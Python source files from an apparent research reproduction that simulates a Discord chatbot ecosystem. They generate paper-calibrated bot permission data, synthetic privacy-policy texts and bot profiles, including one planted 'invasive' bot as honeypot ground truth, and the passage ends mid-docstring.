