"""Paper-calibrated target distributions.

Every number here is traceable to the paper:

- Figure 3 gives the permission-request distribution.  Only two bars are
  stated numerically in the text (SEND_MESSAGES 59.18%, ADMINISTRATOR
  54.86%); the remaining bar heights are *estimated from the figure* and
  marked as such.  Benchmarks treat the two exact values as hard targets and
  the estimates as shape targets.
- Table 1 gives the bots-per-developer distribution verbatim.
- Table 2 gives traceability rates (37.27% website, 4.35% policy link,
  4.33% valid policy).
- Section 4.2 "Code Analysis" gives GitHub-link (23.86%), valid-repo
  (60.46%), language-share (JS 41% / Python 32%) and check-API rates
  (JS 72.97%, Python 2.65%).
- The honeypot campaign: 500 bots tested, 5 personas, 4 token types,
  25 feed messages, exactly 1 trigger (URL + Word doc, bot "Melonian").
"""

from __future__ import annotations

from dataclasses import dataclass, field


def _fig3_defaults() -> dict[str, float]:
    """Percent of valid-permission bots requesting each permission.

    The first two entries are exact (quoted in the text); the rest are
    estimated from the Figure 3 bar chart and documented as estimates in
    DESIGN.md.  Keys are install-screen display names.
    """
    return {
        "send messages": 59.18,  # exact, Section 4.2
        "administrator": 54.86,  # exact, Section 4.2
        "embed links": 35.0,
        "read messages": 33.0,
        "attach files": 28.0,
        "read message history": 26.0,
        "add reactions": 24.0,
        "manage messages": 22.0,
        "use external emojis": 16.0,
        "manage roles": 15.0,
        "connect": 14.0,
        "speak": 13.5,
        "kick members": 12.0,
        "ban members": 11.0,
        "manage channels": 10.0,
        "manage nicknames": 8.0,
        "mention @everyone": 7.5,
        "create invite": 7.0,
        "change nickname": 6.5,
        "manage server": 6.0,
        "view audit log": 5.5,
        "manage webhooks": 5.0,
        "use voice activity": 4.5,
        "send tts messages": 4.0,
        "manage emojis and stickers": 3.5,
    }


@dataclass
class Fig3Targets:
    """Permission-request marginals (percent of bots with valid permissions)."""

    percentages: dict[str, float] = field(default_factory=_fig3_defaults)

    #: The two values the text quotes exactly (used as hard benchmark targets).
    EXACT: tuple[str, ...] = ("send messages", "administrator")

    def probability(self, display_name: str) -> float:
        return self.percentages[display_name] / 100.0


@dataclass
class PopulationTargets:
    """Headline population numbers (Section 4.2, Table 1)."""

    total_bots: int = 20_915
    valid_permission_fraction: float = 15_525 / 20_915  # ~74%
    #: Breakdown of the invalid 26%: malformed invite links, bots that have
    #: been removed (404), and slow redirect chains that time out.
    invalid_breakdown: dict[str, float] = field(
        default_factory=lambda: {"malformed_link": 0.40, "removed": 0.40, "slow_redirect": 0.20}
    )
    #: Table 1, verbatim: developers by number of published bots.
    developers_by_bot_count: dict[int, int] = field(
        default_factory=lambda: {1: 11_070, 2: 1_089, 3: 185, 4: 50, 5: 19, 6: 6, 7: 4, 8: 2, 11: 1, 12: 1}
    )
    #: Fraction of developers using third-party dev platforms (botghost.com
    #: etc.); the paper notes their presence without quantifying — estimate.
    third_party_platform_fraction: float = 0.12
    #: Extra OAuth scopes requested alongside the mandatory ``bot`` scope
    #: ("some Discord chatbots may also request additional scopes ... extra
    #: user data as well as other privileges").  Rates are estimates; the
    #: whitelisted/testing-only scopes cannot appear on public invites.
    extra_scope_rates: dict[str, float] = field(
        default_factory=lambda: {
            "applications.commands": 0.55,
            "identify": 0.08,
            "guilds": 0.05,
            "email": 0.03,
            "guilds.join": 0.02,
        }
    )
    #: Guild-count distribution: log-scale heavy tail, max ~3M (paper: tested
    #: bots ranged 3M..25 guilds; population includes 0-guild dead bots).
    guild_count_log10_mean: float = 1.3
    guild_count_log10_sigma: float = 1.1
    max_guild_count: int = 3_000_000
    #: Vote counts (top.gg votes), range 876K..6 for the tested sample.
    vote_count_log10_mean: float = 1.0
    vote_count_log10_sigma: float = 1.2
    max_vote_count: int = 876_000

    def developer_count_weights(self) -> tuple[list[int], list[float]]:
        counts = sorted(self.developers_by_bot_count)
        total = sum(self.developers_by_bot_count.values())
        return counts, [self.developers_by_bot_count[count] / total for count in counts]


@dataclass
class TraceabilityTargets:
    """Table 2 rates, expressed as conditional probabilities for generation."""

    website_fraction: float = 5_786 / 15_525  # 37.27%
    policy_link_given_website: float = 676 / 5_786  # -> 4.35% overall
    valid_policy_given_link: float = 673 / 676  # -> 4.33% overall
    #: Keyword-category mix for *present* policies.  The paper found zero
    #: complete policies; present ones are partial (generic, reused).
    complete_fraction: float = 0.0
    #: Among partial policies, how many of the four practices get disclosed.
    categories_mentioned_weights: dict[int, float] = field(
        default_factory=lambda: {1: 0.35, 2: 0.40, 3: 0.25}
    )
    #: Fraction of present policies that are verbatim-reused generic text.
    generic_reuse_fraction: float = 0.6


@dataclass
class CodeAnalysisTargets:
    """Section 4.2 code-analysis rates."""

    github_link_fraction: float = 3_705 / 15_525  # 23.86%
    valid_repo_given_link: float = 2_240 / 3_705  # 60.46%
    #: Invalid-link breakdown: user profiles, empty accounts, private-only,
    #: dead links (enumerated in the paper, shares estimated).
    invalid_link_breakdown: dict[str, float] = field(
        default_factory=lambda: {
            "user_profile": 0.35,
            "no_repositories": 0.25,
            "no_public_repositories": 0.20,
            "invalid_link": 0.20,
        }
    )
    #: Language shares among valid repos (JS 41%, Python 32%; remainder split
    #: across other languages and README-only repos with no source).
    language_shares: dict[str, float] = field(
        default_factory=lambda: {
            "JavaScript": 0.41,
            "Python": 0.32,
            "TypeScript": 0.08,
            "Java": 0.05,
            "Go": 0.04,
            "C#": 0.04,
            "Rust": 0.03,
            "readme_only": 0.03,
        }
    )
    #: Fraction of repos (per language) containing a permission-check API.
    check_rate_by_language: dict[str, float] = field(
        default_factory=lambda: {"JavaScript": 675 / 925, "Python": 19 / 718}
    )


@dataclass
class HoneypotTargets:
    """Dynamic-analysis campaign parameters (Section 4.2)."""

    bots_tested: int = 500
    personas_per_guild: int = 5
    feed_messages: int = 25
    token_types: tuple[str, ...] = ("url", "email", "word", "pdf")
    #: Exactly one trigger in 500 tested bots (the Melonian incident).
    expected_triggers: int = 1
    #: Rate of invasive behaviour among the *most-voted* sample.
    invasive_rate: float = 1 / 500
    #: Mix of non-invasive behaviours for the remainder of the population.
    benign_behavior_weights: dict[str, float] = field(
        default_factory=lambda: {
            "benign": 0.45,
            "moderation_unchecked": 0.30,
            "moderation_checked": 0.15,
            "link_preview": 0.10,
        }
    )


@dataclass
class Targets:
    """All calibration targets bundled together."""

    population: PopulationTargets = field(default_factory=PopulationTargets)
    fig3: Fig3Targets = field(default_factory=Fig3Targets)
    traceability: TraceabilityTargets = field(default_factory=TraceabilityTargets)
    code: CodeAnalysisTargets = field(default_factory=CodeAnalysisTargets)
    honeypot: HoneypotTargets = field(default_factory=HoneypotTargets)


DEFAULT_TARGETS = Targets()
