"""Privacy-policy text generation.

Produces the policy landscape the paper found: mostly *absent*; when present,
*partial* (describing only some of Collect/Use/Retain/Disclose) and usually
*generic* — boilerplate reused verbatim across developers, never naming the
chatbot-ecosystem data types it actually touches.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

#: Sentence templates per data-practice category.  Each template contains at
#: least one keyword from the corresponding family in
#: :mod:`repro.traceability.keywords`, so generated policies are detectable
#: exactly when they genuinely describe the practice.
_CATEGORY_SENTENCES: dict[str, tuple[str, ...]] = {
    "collect": (
        "We collect information you submit when interacting with {name}.",
        "{name} may gather diagnostic data automatically.",
        "Certain interaction details are recorded automatically.",
    ),
    "use": (
        "We use the data to improve our service.",
        "Information is processed to personalize your experience.",
        "{name} analyzes interactions to operate its commands.",
    ),
    "retain": (
        "We retain data only as long as necessary to run {name}.",
        "Some settings are stored in our database for convenience.",
        "Activity details are kept for a limited retention period.",
    ),
    "disclose": (
        "We do not sell your data; we may share it with service providers.",
        "Information may be disclosed when required by law.",
        "{name} may transfer aggregate statistics to third parties.",
    ),
}

#: Ecosystem-specific clauses used only by *tailored* policies.
_TAILORED_SENTENCES: dict[str, tuple[str, ...]] = {
    "collect": (
        "{name} collects message content and message metadata from channels it is present in.",
        "We gather your user id, username and guild (server id) when you run commands.",
    ),
    "use": (
        "Message content is processed only to provide command functionality.",
        "We use command usage statistics per channel to rank features.",
    ),
    "retain": (
        "Role and channel configuration is stored per guild.",
        "We store your user id and email address until you leave the server.",
    ),
    "disclose": (
        "We never share message content or voice metadata with third parties.",
        "Aggregated command usage may be shared with our partner dashboards.",
    ),
}

#: Filler sentences are carefully keyword-free so generated policies stay
#: faithful to their ground-truth category set.
_NEUTRAL_FILLER = (
    "This privacy policy explains our practices.",
    "By adding the bot to your server you accept this policy.",
    "Contact the developer with any questions.",
    "This policy may change at any time without notice.",
    "Thank you for reading.",
)

#: The verbatim boilerplate observed being reused across developers.
GENERIC_POLICY_VARIANTS: tuple[tuple[frozenset[str], str], ...] = (
    (
        frozenset({"collect", "use"}),
        "PRIVACY POLICY\n\n"
        "This application collects basic information required for operation. "
        "We use this information to provide our services. "
        "By using the application you consent to this policy. "
        "This policy may change at any time without notice.",
    ),
    (
        frozenset({"collect"}),
        "Privacy Policy\n\n"
        "We may collect some data while you interact with the application. "
        "Contact the developer for questions. "
        "This document is provided for informational purposes.",
    ),
    (
        frozenset({"use", "retain"}),
        "Privacy\n\n"
        "Data is processed to operate the service and some preferences are stored "
        "for convenience. This document may be updated at the developer's discretion.",
    ),
)


#: Sentences describing each practice with synonyms the keyword families do
#: NOT list — the word-form blind spot the paper's Section 5 concedes.
#: Policies built from these are invisible to the keyword analyzer while a
#: learned classifier (trained on labelled examples) can still catch them.
UNLISTED_SYNONYM_SENTENCES: dict[str, tuple[str, ...]] = {
    "collect": (
        "We amass interaction traces while you chat with {name}.",
        "Telemetry is accumulated from your sessions.",
    ),
    "use": (
        "Data is leveraged to power new features.",
        "Insights are derived from your activity.",
    ),
    "retain": (
        "Information is warehoused on our infrastructure.",
        "Your settings are held on file indefinitely.",
    ),
    "disclose": (
        "Information may be handed over to outside vendors.",
        "Aggregate figures are passed along to advertisers.",
    ),
}


@dataclass(frozen=True)
class PolicySpec:
    """Ground truth for one bot's privacy policy.

    ``categories`` is the set of data practices the policy genuinely
    describes — what a perfect (manual) reviewer would find, and therefore
    the label the keyword analyzer is validated against.
    """

    present: bool
    categories: frozenset[str] = frozenset()
    generic: bool = True
    tailored: bool = False
    link_valid: bool = True
    #: When True, the policy describes its practices using synonyms outside
    #: the keyword families (keyword-invisible but human/ML-readable).
    unlisted_synonyms: bool = False

    @property
    def expected_class(self) -> str:
        """complete / partial / broken under the paper's definitions."""
        if not self.present or not self.link_valid or not self.categories:
            return "broken"
        if self.categories == frozenset({"collect", "use", "retain", "disclose"}):
            return "complete"
        return "partial"


@dataclass
class PolicyDocument:
    spec: PolicySpec
    text: str


def render_policy(spec: PolicySpec, bot_name: str, rng: random.Random) -> str:
    """Render policy text whose detectable practices equal ``spec.categories``."""
    if not spec.present:
        return ""
    if spec.unlisted_synonyms:
        bank = UNLISTED_SYNONYM_SENTENCES
    elif spec.generic:
        candidates = [text for cats, text in GENERIC_POLICY_VARIANTS if cats == spec.categories]
        if candidates:
            return candidates[0]
        bank = _CATEGORY_SENTENCES  # no canned variant: assemble instead
    else:
        bank = _TAILORED_SENTENCES if spec.tailored else _CATEGORY_SENTENCES
    sentences: list[str] = [f"{bot_name} Privacy Policy", ""]
    for category in sorted(spec.categories):
        template = rng.choice(bank[category])
        sentences.append(template.format(name=bot_name))
    filler_count = rng.randint(1, 3)
    sentences.extend(rng.sample(_NEUTRAL_FILLER, filler_count))
    return "\n".join(sentences)


def sample_policy_spec(
    rng: random.Random,
    present: bool,
    link_valid: bool,
    complete_fraction: float,
    categories_mentioned_weights: dict[int, float],
    generic_reuse_fraction: float,
) -> PolicySpec:
    """Sample a policy spec per the calibrated traceability targets."""
    if not present:
        return PolicySpec(present=False, link_valid=False)
    if rng.random() < complete_fraction:
        categories = frozenset({"collect", "use", "retain", "disclose"})
        return PolicySpec(present=True, categories=categories, generic=False, tailored=True, link_valid=link_valid)
    sizes = sorted(categories_mentioned_weights)
    weights = [categories_mentioned_weights[size] for size in sizes]
    size = rng.choices(sizes, weights=weights, k=1)[0]
    categories = frozenset(rng.sample(["collect", "use", "retain", "disclose"], size))
    generic = rng.random() < generic_reuse_fraction
    tailored = not generic and rng.random() < 0.3
    return PolicySpec(present=True, categories=categories, generic=generic, tailored=tailored, link_valid=link_valid)
