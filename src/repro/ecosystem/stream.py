"""Rank-addressable streaming population: any bot in O(1), any slice lazily.

The original generator walked one shared RNG through the whole population,
sorted by votes, and fixed the honeypot ground truth at the end — every bot
depended on every draw before it, so the population could only exist fully
materialized.  This module redefines the population so that **rank order is
generation order**:

* every bot's attribute draws come from small per-rank RNG streams derived
  with sha256 from ``(seed, stream-name, rank)``, so bot *k* is computable
  without touching bots ``0..k-1``;
* vote counts come from the log-normal inverse CDF evaluated at rank
  quantiles, so the population is sorted by votes *by construction* while
  preserving the paper-calibrated marginal distribution;
* bot names embed their rank as a trailing integer, making every derived
  artifact (listing id, client id, website hostname, repo name) decodable
  back to a rank in O(1) — the virtual sites resolve content lazily instead
  of holding eager per-bot dictionaries;
* developers are assigned *block-locally*: each :data:`BLOCK`-rank window
  samples its own developer set from the Table 1 weights, so resolving an
  owner touches one block, never the whole population;
* the Melonian plant and its top-window behavior guarantee are a small
  per-seed overlay computed from the pinned most-voted window.

:func:`repro.ecosystem.generator.generate_ecosystem` simply materializes
this stream, which is what makes streamed and materialized runs
byte-identical: there is only one definition of the population.
"""

from __future__ import annotations

import hashlib
import random
from collections import OrderedDict
from dataclasses import dataclass, field
from enum import Enum
from statistics import NormalDist
from typing import Iterable, Iterator

from repro.discordsim import behaviors
from repro.discordsim.oauth import OAuthScope, build_invite_url
from repro.discordsim.permissions import Permission, Permissions, permission_from_name
from repro.ecosystem import names as naming
from repro.ecosystem.distributions import DEFAULT_TARGETS, Targets
from repro.ecosystem.policies import PolicySpec, render_policy, sample_policy_spec
from repro.ecosystem.repos import RepoKind, RepoSpec, generate_repo

_CLIENT_ID_BASE = 100_000_000_000_000_000

#: Ranks per developer block.  Developer identity is a function of
#: ``(seed, rank // BLOCK)`` alone, so owner pages resolve in O(BLOCK).
BLOCK = 512

_NORMAL = NormalDist()


class InviteStatus(Enum):
    """What happens when the scraper follows the bot's invite link."""

    VALID = "valid"
    MALFORMED = "malformed"  # unparseable OAuth URL
    REMOVED = "removed"  # application deleted -> 404
    SLOW_REDIRECT = "slow_redirect"  # redirect chain that times out


@dataclass
class Developer:
    """One third-party developer account."""

    tag: str
    uses_platform: str | None = None  # third-party dev platform, if any
    bot_indices: list[int] = field(default_factory=list)

    @property
    def bot_count(self) -> int:
        return len(self.bot_indices)


@dataclass
class BotProfile:
    """Ground truth for one listed chatbot."""

    index: int
    client_id: int
    name: str
    developer_tag: str
    tags: list[str]
    description: str
    guild_count: int
    votes: int
    invite_status: InviteStatus
    permissions: Permissions
    scopes: tuple[OAuthScope, ...]
    website_host: str | None
    policy: PolicySpec
    policy_text: str
    github: RepoSpec | None
    behavior: str
    built_with: str | None = None

    @property
    def invite_url(self) -> str:
        """The invite URL shown on the listing page."""
        if self.invite_status is InviteStatus.MALFORMED:
            return f"https://discord.sim/oauth2/authorize?client_id=&permissions=oops&scope=bot&bot={self.index}"
        return build_invite_url(self.client_id, self.permissions, scopes=self.scopes)

    @property
    def has_valid_permissions(self) -> bool:
        return self.invite_status is InviteStatus.VALID

    @property
    def website_url(self) -> str | None:
        return f"https://{self.website_host}/" if self.website_host else None

    @property
    def github_url(self) -> str | None:
        if self.github is None:
            return None
        if self.github.kind is RepoKind.INVALID_LINK:
            return f"https://github.sim/{self.github.owner}/{self.github.name}-deleted"
        return self.github.url

    @property
    def is_invasive(self) -> bool:
        return self.behavior in behaviors.INVASIVE_BEHAVIORS


@dataclass
class EcosystemConfig:
    """Knobs for population generation."""

    n_bots: int = 20_915
    seed: int = 2022
    targets: Targets = field(default_factory=lambda: DEFAULT_TARGETS)
    #: Invasive-behaviour rate outside the most-voted (honeypot) sample.
    background_invasive_rate: float = 0.004
    #: Size of the most-voted window that must contain exactly one invasive
    #: bot (the Melonian plant).  Clamped to n_bots.
    honeypot_window: int = 500


# ---------------------------------------------------------------------------
# Per-rank derivation
# ---------------------------------------------------------------------------


def _derive_rng(seed: int, stream: str, rank: int) -> random.Random:
    """An independent RNG for one attribute stream of one rank."""
    digest = hashlib.sha256(f"{seed}:{stream}:{rank}".encode("utf-8")).digest()
    return random.Random(int.from_bytes(digest[:16], "big"))


def votes_at(config: EcosystemConfig, rank: int) -> int:
    """Log-normal vote count at a rank quantile — non-increasing in rank."""
    population = config.targets.population
    quantile = 1.0 - (rank + 0.5) / max(config.n_bots, 1)
    z = _NORMAL.inv_cdf(quantile)
    votes = int(10 ** (population.vote_count_log10_mean + population.vote_count_log10_sigma * z))
    return min(votes, population.max_vote_count)


def invite_status_at(config: EcosystemConfig, rank: int) -> InviteStatus:
    """O(1) probe used by the Melonian overlay and the invite pages."""
    return _sample_invite_status(_derive_rng(config.seed, "invite", rank), config.targets)


def rank_suffix_of(text: str) -> int | None:
    """Decode the trailing rank integer a generated name carries, if any."""
    digits = 0
    for char in reversed(text):
        if char.isdigit():
            digits += 1
        else:
            break
    if not digits:
        return None
    return int(text[len(text) - digits:])


def owner_block_of(owner: str) -> tuple[int, int] | None:
    """Decode a GitHub owner name back to ``(block, developer_index)``."""
    tail = rank_suffix_of(owner)
    if tail is None:
        return None
    head = owner[: len(owner) - len(str(tail))]
    if not head.endswith("x"):
        return None
    block = rank_suffix_of(head[:-1])
    if block is None:
        return None
    return block, tail


# ---------------------------------------------------------------------------
# Attribute samplers (per-rank RNG streams)
# ---------------------------------------------------------------------------


def _sample_permissions(rng: random.Random, targets: Targets) -> Permissions:
    value = Permissions.none()
    for display_name, percent in targets.fig3.percentages.items():
        if rng.random() < percent / 100.0:
            value = value | permission_from_name(display_name)
    return value


def _sample_scopes(rng: random.Random, targets: Targets) -> tuple[OAuthScope, ...]:
    """The bot scope always, plus sampled extras."""
    scopes = [OAuthScope.BOT]
    for scope_name, rate in targets.population.extra_scope_rates.items():
        if rng.random() < rate:
            scopes.append(OAuthScope(scope_name))
    return tuple(scopes)


def _sample_invite_status(rng: random.Random, targets: Targets) -> InviteStatus:
    if rng.random() < targets.population.valid_permission_fraction:
        return InviteStatus.VALID
    breakdown = targets.population.invalid_breakdown
    kinds = list(breakdown)
    status = rng.choices(kinds, weights=[breakdown[kind] for kind in kinds], k=1)[0]
    return {
        "malformed_link": InviteStatus.MALFORMED,
        "removed": InviteStatus.REMOVED,
        "slow_redirect": InviteStatus.SLOW_REDIRECT,
    }[status]


def _sample_github(
    rng: random.Random,
    targets: Targets,
    owner: str,
    bot_name: str,
) -> RepoSpec | None:
    code = targets.code
    if rng.random() >= code.github_link_fraction:
        return None
    if rng.random() < code.valid_repo_given_link:
        languages = list(code.language_shares)
        weights = [code.language_shares[language] for language in languages]
        choice = rng.choices(languages, weights=weights, k=1)[0]
        if choice == "readme_only":
            return generate_repo(RepoKind.README_ONLY, owner, bot_name, None, False, rng)
        check_rate = code.check_rate_by_language.get(choice, 0.0)
        has_check = rng.random() < check_rate
        return generate_repo(RepoKind.VALID_CODE, owner, bot_name, choice, has_check, rng)
    breakdown = code.invalid_link_breakdown
    kinds = list(breakdown)
    kind_name = rng.choices(kinds, weights=[breakdown[kind] for kind in kinds], k=1)[0]
    kind = {
        "user_profile": RepoKind.USER_PROFILE,
        "no_repositories": RepoKind.NO_REPOSITORIES,
        "no_public_repositories": RepoKind.NO_PUBLIC_REPOSITORIES,
        "invalid_link": RepoKind.INVALID_LINK,
    }[kind_name]
    return generate_repo(kind, owner, bot_name, None, False, rng)


def _sample_behavior(rng: random.Random, config: EcosystemConfig, benign_only: bool) -> str:
    if not benign_only and rng.random() < config.background_invasive_rate:
        return rng.choice((behaviors.EXFILTRATOR, behaviors.NOSY_OPERATOR))
    weights = config.targets.honeypot.benign_behavior_weights
    kinds = list(weights)
    return rng.choices(kinds, weights=[weights[kind] for kind in kinds], k=1)[0]


# ---------------------------------------------------------------------------
# Developer blocks
# ---------------------------------------------------------------------------


def developers_for_block(config: EcosystemConfig, block: int) -> tuple[list[Developer], list[Developer]]:
    """Generate one block's developers and the per-rank assignment.

    Returns ``(developers, slots)`` where ``slots[offset]`` is the developer
    of rank ``block * BLOCK + offset``.  Deterministic in ``(seed, block)``.
    """
    start = block * BLOCK
    size = min(BLOCK, config.n_bots - start)
    if size <= 0:
        return [], []
    rng = _derive_rng(config.seed, "devblock", block)
    counts, weights = config.targets.population.developer_count_weights()
    fraction = config.targets.population.third_party_platform_fraction
    developers: list[Developer] = []
    quotas: list[int] = []
    covered = 0
    while covered < size:
        quota = min(rng.choices(counts, weights=weights, k=1)[0], size - covered)
        platform = rng.choice(naming.THIRD_PARTY_PLATFORMS) if rng.random() < fraction else None
        base = rng.choice(naming.DEVELOPER_NAMES)
        tag = f"{base}{block}x{len(developers)}#{rng.randint(1000, 9999)}"
        developers.append(Developer(tag=tag, uses_platform=platform))
        quotas.append(quota)
        covered += quota
    slots: list[Developer] = []
    for developer, quota in zip(developers, quotas):
        slots.extend([developer] * quota)
    rng.shuffle(slots)
    for offset, developer in enumerate(slots):
        developer.bot_indices.append(start + offset)
    return developers, slots


def block_count(config: EcosystemConfig) -> int:
    return (config.n_bots + BLOCK - 1) // BLOCK


# ---------------------------------------------------------------------------
# The Melonian overlay
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class MelonianOverlay:
    """The pinned top-window ground truth: one planted invasive bot."""

    rank: int
    guild_count: int

    @classmethod
    def compute(cls, config: EcosystemConfig) -> "MelonianOverlay | None":
        window = min(config.honeypot_window, config.n_bots)
        if window <= 0:
            return None
        rng = _derive_rng(config.seed, "melonian", 0)
        # Prefer a bot whose invite actually works; the planted bot must be
        # installable and able to read channels for the incident to occur.
        candidates = [
            rank for rank in range(window) if invite_status_at(config, rank) is InviteStatus.VALID
        ]
        rank = rng.choice(candidates) if candidates else rng.randrange(window)
        return cls(rank=rank, guild_count=rng.randint(5, 30))  # "present in a few guilds"


# ---------------------------------------------------------------------------
# The stream
# ---------------------------------------------------------------------------


class EcosystemStream:
    """Deterministic lazy view of the population defined by one config.

    ``bot_at(rank)`` is O(BLOCK) worst-case (developer-block resolution,
    LRU-cached so sequential scans amortize to O(1) per bot); ``iter_bots``
    yields any rank range without materializing anything else.
    """

    def __init__(self, config: EcosystemConfig, block_cache: int = 8) -> None:
        self.config = config
        self.overlay = MelonianOverlay.compute(config)
        self._window = min(config.honeypot_window, config.n_bots)
        self._block_cache: OrderedDict[int, tuple[list[Developer], list[Developer]]] = OrderedDict()
        self._block_cache_size = max(block_cache, 2)

    def __len__(self) -> int:
        return self.config.n_bots

    # -- developers --------------------------------------------------------

    def block(self, block: int) -> tuple[list[Developer], list[Developer]]:
        cached = self._block_cache.get(block)
        if cached is not None:
            self._block_cache.move_to_end(block)
            return cached
        entry = developers_for_block(self.config, block)
        self._block_cache[block] = entry
        while len(self._block_cache) > self._block_cache_size:
            self._block_cache.popitem(last=False)
        return entry

    def developer_at(self, rank: int) -> Developer:
        _, slots = self.block(rank // BLOCK)
        return slots[rank % BLOCK]

    def iter_developers(self) -> Iterator[Developer]:
        for block in range(block_count(self.config)):
            developers, _ = self.block(block)
            yield from developers

    # -- bots --------------------------------------------------------------

    def bot_at(self, rank: int) -> BotProfile:
        if not 0 <= rank < self.config.n_bots:
            raise IndexError(rank)
        config = self.config
        targets = config.targets
        seed = config.seed
        developer = self.developer_at(rank)

        rng_name = _derive_rng(seed, "name", rank)
        name = (
            rng_name.choice(naming.BOT_ADJECTIVES)
            + rng_name.choice(naming.BOT_NOUNS)
            + rng_name.choice(naming.BOT_SUFFIXES)
            + str(rank)
        )
        tags = naming.bot_tags(rng_name)
        description = naming.bot_description(rng_name, name, tags)

        invite_status = invite_status_at(config, rank)
        rng_perm = _derive_rng(seed, "perm", rank)
        if invite_status is InviteStatus.VALID:
            permissions = _sample_permissions(rng_perm, targets)
            scopes = _sample_scopes(rng_perm, targets)
        else:
            permissions = Permissions.none()
            scopes = (OAuthScope.BOT,)

        rng_counts = _derive_rng(seed, "counts", rank)
        population = targets.population
        guild_count = int(10 ** rng_counts.gauss(population.guild_count_log10_mean, population.guild_count_log10_sigma))
        guild_count = min(guild_count, population.max_guild_count)
        votes = votes_at(config, rank)

        trace = targets.traceability
        rng_trace = _derive_rng(seed, "trace", rank)
        has_website = rng_trace.random() < trace.website_fraction
        website_host = f"{name.lower()}.botsite.sim" if has_website else None
        policy_present = has_website and rng_trace.random() < trace.policy_link_given_website
        link_valid = policy_present and rng_trace.random() < trace.valid_policy_given_link
        policy = sample_policy_spec(
            rng_trace,
            present=policy_present,
            link_valid=link_valid,
            complete_fraction=trace.complete_fraction,
            categories_mentioned_weights=trace.categories_mentioned_weights,
            generic_reuse_fraction=trace.generic_reuse_fraction,
        )
        policy_text = render_policy(policy, name, rng_trace) if policy.present and policy.link_valid else ""

        owner = developer.tag.split("#")[0]
        github = _sample_github(_derive_rng(seed, "code", rank), targets, owner, name)

        rng_behavior = _derive_rng(seed, "behavior", rank)
        behavior = _sample_behavior(rng_behavior, config, benign_only=rank < self._window)

        profile = BotProfile(
            index=rank,
            client_id=_CLIENT_ID_BASE + rank,
            name=name,
            developer_tag=developer.tag,
            tags=tags,
            description=description,
            guild_count=guild_count,
            votes=votes,
            invite_status=invite_status,
            permissions=permissions,
            scopes=scopes,
            website_host=website_host,
            policy=policy,
            policy_text=policy_text,
            github=github,
            behavior=behavior,
            built_with=developer.uses_platform,
        )
        overlay = self.overlay
        if overlay is not None and rank == overlay.rank:
            # The plant keeps its base-name-derived artifacts (website host,
            # repo, description) exactly like the original renamed bot did.
            profile.name = naming.MELONIAN
            profile.behavior = behaviors.NOSY_OPERATOR
            profile.guild_count = overlay.guild_count
            profile.invite_status = InviteStatus.VALID
            profile.permissions = profile.permissions | Permissions.of(
                Permission.VIEW_CHANNEL,
                Permission.READ_MESSAGE_HISTORY,
                Permission.SEND_MESSAGES,
            )
        return profile

    def iter_bots(self, start: int = 0, count: int | None = None) -> Iterator[BotProfile]:
        if start < 0:
            raise ValueError("start must be >= 0")
        stop = self.config.n_bots if count is None else min(start + count, self.config.n_bots)
        for rank in range(start, stop):
            yield self.bot_at(rank)

    def iter_chunks(self, chunk_size: int, start: int = 0, count: int | None = None) -> Iterator[list[BotProfile]]:
        """Fixed-size batches of :meth:`iter_bots` (last batch may be short)."""
        if chunk_size < 1:
            raise ValueError("chunk_size must be >= 1")
        batch: list[BotProfile] = []
        for bot in self.iter_bots(start, count):
            batch.append(bot)
            if len(batch) == chunk_size:
                yield batch
                batch = []
        if batch:
            yield batch


def iter_bots(
    seed: int = 2022,
    start: int = 0,
    count: int | None = None,
    *,
    n_bots: int = 20_915,
    config: EcosystemConfig | None = None,
) -> Iterator[BotProfile]:
    """Yield bots ``start .. start+count`` of the population for ``seed``.

    The module-level convenience form of :meth:`EcosystemStream.iter_bots`;
    bots are byte-identical to the corresponding slice of
    :func:`repro.ecosystem.generator.generate_ecosystem`.
    """
    stream = EcosystemStream(config or EcosystemConfig(n_bots=n_bots, seed=seed))
    return stream.iter_bots(start, count)


# ---------------------------------------------------------------------------
# Ecosystem views (materialized and streaming share one population)
# ---------------------------------------------------------------------------


class _LazyBots:
    """Sequence protocol over the stream with a bounded LRU profile cache."""

    def __init__(self, stream: EcosystemStream, cache_size: int = 4096) -> None:
        self._stream = stream
        self._cache: OrderedDict[int, BotProfile] = OrderedDict()
        self._cache_size = max(cache_size, 16)

    def __len__(self) -> int:
        return len(self._stream)

    def __iter__(self) -> Iterator[BotProfile]:
        return self._stream.iter_bots()

    def __getitem__(self, rank):
        if isinstance(rank, slice):
            return [self[index] for index in range(*rank.indices(len(self)))]
        if rank < 0:
            rank += len(self)
        cached = self._cache.get(rank)
        if cached is not None:
            self._cache.move_to_end(rank)
            return cached
        profile = self._stream.bot_at(rank)
        self._cache[rank] = profile
        while len(self._cache) > self._cache_size:
            self._cache.popitem(last=False)
        return profile


def resolve_by_name(bots, overlay: MelonianOverlay | None, name: str) -> BotProfile | None:
    """O(1) name lookup: rank-suffix decode plus the Melonian special case."""
    if name == naming.MELONIAN:
        if overlay is None:
            return None
        return bots[overlay.rank]
    rank = rank_suffix_of(name)
    if rank is None or not 0 <= rank < len(bots):
        return None
    bot = bots[rank]
    return bot if bot.name == name else None


def resolve_by_client_id(bots, client_id: int) -> BotProfile | None:
    """O(1) client-id lookup: ranks and client ids are offset by a constant."""
    rank = client_id - _CLIENT_ID_BASE
    if not 0 <= rank < len(bots):
        return None
    return bots[rank]


@dataclass
class Ecosystem:
    """The generated population plus lookup helpers."""

    config: EcosystemConfig
    bots: list[BotProfile]  # sorted by votes, descending (the "top list")
    developers: dict[str, Developer]
    #: The Melonian plant's position, shared with the streaming view so
    #: name lookups stay O(1) in both representations.
    overlay: MelonianOverlay | None = None

    def bot_by_name(self, name: str) -> BotProfile | None:
        found = resolve_by_name(self.bots, self.overlay, name)
        if found is not None or self.overlay is not None:
            return found
        for bot in self.bots:  # populations not built by the stream (tests)
            if bot.name == name:
                return bot
        return None

    def bot_by_client_id(self, client_id: int) -> BotProfile | None:
        found = resolve_by_client_id(self.bots, client_id)
        if found is not None and found.client_id == client_id:
            return found
        for bot in self.bots:
            if bot.client_id == client_id:
                return bot
        return None

    def top_voted(self, count: int) -> list[BotProfile]:
        return self.bots[:count]

    def with_valid_permissions(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.has_valid_permissions]

    def websites(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.website_host]

    def github_linked(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.github is not None]


class StreamingEcosystem:
    """Drop-in :class:`Ecosystem` facade that never materializes the bots.

    ``bots`` supports ``len()`` / indexing / iteration through a bounded LRU
